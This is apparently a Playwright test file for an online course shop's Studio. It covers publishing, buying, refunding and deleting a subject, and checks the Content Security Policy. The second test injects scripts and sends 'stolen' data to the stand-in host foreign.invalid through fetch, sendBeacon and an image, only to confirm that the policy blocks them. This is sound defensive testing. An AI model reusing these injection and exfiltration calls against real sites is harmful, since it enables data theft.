import { readFile } from 'node:fs/promises';
import { PDFDocument } from '@cantoo/pdf-lib';
import { studioTexts } from '../../studio/texts.ts';
import { refundAtProvider } from '../support/browser/payments.ts';
import { pdfFile } from '../support/browser/pdf.ts';
import { holdBuilds, pollBuild, rebuild } from '../support/browser/rebuild.ts';
import { saveBy } from '../support/browser/save.ts';
import { buy, signUp } from '../support/browser/students.ts';
import {
  choosePdf,
  confirmAction,
  contentOf,
  editorOf,
  expectPdf,
  field,
  goInStudio,
  openStudio,
  publish,
} from '../support/browser/studio.ts';
import { restoreContentAfterFailures } from '../support/browser/studio-content.ts';
import { expectToStay } from '../support/browser/subject-stays.ts';
import { expect, test } from '../support/browser/test.ts';

restoreContentAfterFailures();

/** `tests/api/catalogue/publishing.test.ts` covers when a publication is built. */
test('a third subject created in the Studio has a page, can be bought, and cannot be deleted while a student owns it', async ({
  browser,
  page,
  request,
  sandbox,
}) => {
  const pageText = async () => (await request.get('/development-economics')).text();
  const content = contentOf(sandbox);

  const studio = await openStudio(browser, sandbox, '/structure');
  await studio.getByRole('link', { name: 'New subject' }).click();
  await field(studio, 'name').fill('Development Economics');
  await field(studio, 'description').fill('Why some economies grow and others do not.');
  const messages = studio.getByTestId('validation-messages');
  await expect(messages.getByText(studioTexts.nothingToSell)).toBeVisible();
  await studio.getByTestId('group-tab-selling').click();
  await field(studio, 'price').fill('25');
  await studio.getByTestId('group-tab-place').click();
  await expect(field(studio, 'order')).toHaveValue('3');
  await studio.getByRole('button', { name: 'Generate' }).click();
  await expect(field(studio, 'slug')).toHaveValue('development-economics');
  await publish(studio);
  // A topic's entry names its subject too.
  const entry = studio.getByRole('link', { name: /^Development Economics/ });
  await expect(entry).toContainText('No files yet');

  const subjectId = await content.fetch<string>(
    '*[slug.current == "development-economics"][0]._id',
  );
  const { origin } = new URL(sandbox.studio);
  const topics = `${origin}/studio/structure/${subjectId}`;
  await goInStudio(studio, topics);
  await studio.getByRole('link', { name: 'New topic' }).click();
  await field(studio, 'name').fill('Measures of development');
  await studio.getByTestId('group-tab-place').click();
  await expect(field(studio, 'order')).toHaveValue('1');
  await publish(studio);

  const topicId = await content.fetch<string>('*[subject._ref == $subjectId][0]._id', {
    subjectId,
  });
  await goInStudio(studio, `${topics};${topicId}`);
  await studio.getByRole('link', { name: 'New file' }).click();
  await field(studio, 'title').fill('The index of human development');
  await choosePdf(studio, await pdfFile());
  await expectPdf(studio, 'notes.pdf');
  await publish(studio);
  await goInStudio(studio, topics);
  await expect(entry).not.toContainText('No files yet');

  // The publications have asked for the build.
  await holdBuilds(sandbox, false);
  await pollBuild(pageText).toContain('The index of human development');
  await holdBuilds(sandbox, true);
  expect(await pageText()).toContain('Purchase for');

  await page.goto('/');
  await page.getByRole('link', { name: 'Development Economics' }).first().click();
  await expect(page.getByRole('heading', { name: 'Measures of development' })).toBeVisible();
  await expect(page.getByText('Purchase Development Economics to access')).toBeVisible();

  await signUp(page);
  const payment = await buy(page, sandbox, subjectId);
  await page.goto('/development-economics');
  const row = page.getByRole('listitem').filter({ hasText: 'Unlocked' });
  const download = await saveBy(row.getByRole('button', { name: 'Download PDF' }));
  const notes = await PDFDocument.load(await readFile(await download.path()));
  expect(notes.getPageCount()).toBe(1);

  await goInStudio(studio, `${origin}/studio${editorOf('subject', subjectId)}`);
  await expectToStay(studio, 'Delete', 'Students own this subject. Take it off sale instead.');
  await content.patch(subjectId).set({ isOnSale: false }).commit();
  await studio.getByTestId('group-tab-selling').click();
  await expect(studio.getByRole('checkbox', { name: 'On sale' })).not.toBeChecked();
  await expectToStay(studio, 'Unpublish', studioTexts.ownedOffSale);
  await refundAtProvider(page, sandbox, payment);
  const owned = async () => (await request.get(`/api/subjects/${subjectId}/owned`)).json();
  await expect.poll(owned).toEqual({ isOwned: false });

  const fileIds = await content.fetch<string[]>('*[topic._ref == $topicId]._id', { topicId });
  for (const id of [...fileIds, topicId]) await content.delete(id);
  await confirmAction(studio, 'Delete');
  await expect.poll(() => content.fetch('count(*[_id == $subjectId])', { subjectId })).toBe(0);
  await rebuild(request, sandbox);
  // Within an hour the shop drops the copy that it kept for the buyer (docs/decisions/0021-what-do-buyers-keep-when-content-changes.md).
  expect(await pageText()).not.toContain('Purchase for');
  expect(await (await request.get('/')).text()).not.toContain('Development Economics');
});

test('the Studio runs no foreign script, and sends nothing to a foreign address', async ({
  browser,
  sandbox,
}) => {
  const studio = await openStudio(browser, sandbox, '/structure/shopSettings');
  const blocked = await studio.evaluate(async () => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.isForeign = true';
    const foreign = document.createElement('script');
    foreign.src = 'https://foreign.invalid/script.js';
    document.head.append(inline, foreign);
    await fetch('https://foreign.invalid/', { method: 'POST', body: 'stolen' }).catch(() => {});
    navigator.sendBeacon('https://foreign.invalid/', 'stolen');
    // The events of all four requests come before this image's error.
    const image = new Image();
    image.src = 'https://foreign.invalid/stolen.png';
    await new Promise((resolve) => image.addEventListener('error', resolve));
    return { directives: directives.sort(), isForeign: 'isForeign' in window };
  });
  expect(blocked).toEqual({
    directives: ['connect-src', 'connect-src', 'img-src', 'script-src-elem', 'script-src-elem'],
    isForeign: false,
  });
});
